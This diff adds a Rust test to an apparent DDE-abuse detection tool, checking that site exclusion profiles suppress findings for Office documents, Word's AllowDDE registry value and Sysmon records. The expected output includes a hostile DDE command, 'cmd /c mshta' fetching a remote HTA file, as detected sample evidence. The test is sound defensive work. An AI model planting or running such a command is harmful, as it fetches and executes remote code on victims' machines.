@@ -112,6 +112,86 @@ fn a_custom_profile_drives_detection() {
 }
 
 #[test]
+fn site_exclusions_cover_documents_and_hive_settings() {
+    let dir = tempfile::tempdir().unwrap();
+    // The site's ERP sends links to `cmd` from mailed workbooks, and its IT sets AllowDDE.
+    let path = write_profile(dir.path(), |t| {
+        t + r#"
+[[document.exclusions]]
+id = "erp-mailed-links"
+reason = "the ERP mails workbooks that link to its cmd bridge"
+rules = ["ddesweep.document.dde_link"]
+dde_service = ["CMD"]
+path = ['\INetCache\Content.Outlook\']
+
+[[eventlog.exclusions]]
+id = "allow-dde-managed"
+reason = "IT sets Word's AllowDDE on this site"
+target = ['\Word\Security\AllowDDE']
+
+[[eventlog.exclusions]]
+id = "allow-dde-by-reg-exe"
+reason = "never applies to hives: a hive value has no process"
+image = ['reg.exe']
+target = ['\Word\Security\AllowDDE']
+"#
+    });
+    let evidence = testdata("sample-evidence");
+    let default = scan(&[&evidence], &[]);
+    let site = scan(&[&evidence], &["--profile", path.to_str().unwrap()]);
+    let advice = "Payment_Advice.xlsx";
+    assert_eq!(
+        default.commands_in(advice),
+        ["cmd /c mshta http://198.51.100.23/pa.hta"]
+    );
+    assert_eq!(site.commands_in(advice), Vec::<String>::new());
+    assert_eq!(
+        site.artifact(advice)["document"]["excluded"],
+        serde_json::json!({"erp-mailed-links": 1})
+    );
+    assert_eq!(site.artifact(advice)["findings"], 0);
+    // The other DDE documents stay: the condition is the link's service and the mail cache.
+    assert_eq!(
+        site.commands_in("Invoice_2291.docx"),
+        default.commands_in("Invoice_2291.docx")
+    );
+    assert_eq!(
+        site.artifact("Invoice_2291.docx")["document"]["excluded"],
+        serde_json::json!({})
+    );
+
+    let allow_dde = |run: &crate::util::Scan| -> Vec<String> {
+        run.findings()
+            .into_iter()
+            .filter(|(_, rule, _)| rule == "ddesweep.eventlog.word_allow_dde")
+            .map(|(path, _, _)| path)
+            .collect()
+    };
+    assert_eq!(
+        allow_dde(&default),
+        [
+            "C/Users/alice/NTUSER.DAT",
+            "C/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx",
+        ]
+    );
+    assert_eq!(allow_dde(&site), Vec::<String>::new());
+    // The Sysmon 13 record falls to the first exclusion that covers it; the hive value only to
+    // the one without process conditions.
+    assert_eq!(
+        site.artifact("alice/NTUSER.DAT")["hive"]["excluded"],
+        serde_json::json!({"allow-dde-managed": 1})
+    );
+    assert_eq!(
+        site.artifact("Microsoft-Windows-Sysmon%4Operational.evtx")["eventlog"]["excluded"]["allow-dde-managed"],
+        1
+    );
+    let excluded = |run: &crate::util::Scan| run.manifest["totals"]["excluded"].as_u64().unwrap();
+    assert_eq!(excluded(&site), excluded(&default) + 3);
+    let findings = |run: &crate::util::Scan| run.manifest["totals"]["findings"].as_u64().unwrap();
+    assert_eq!(findings(&site), findings(&default) - 3);
+}
+
+#[test]
 fn usage_errors_exit_with_2() {
     let output = ddesweep().args(["scan", "somewhere"]).output().unwrap();
     assert_eq!(output.status.code(), Some(2), "missing -o");
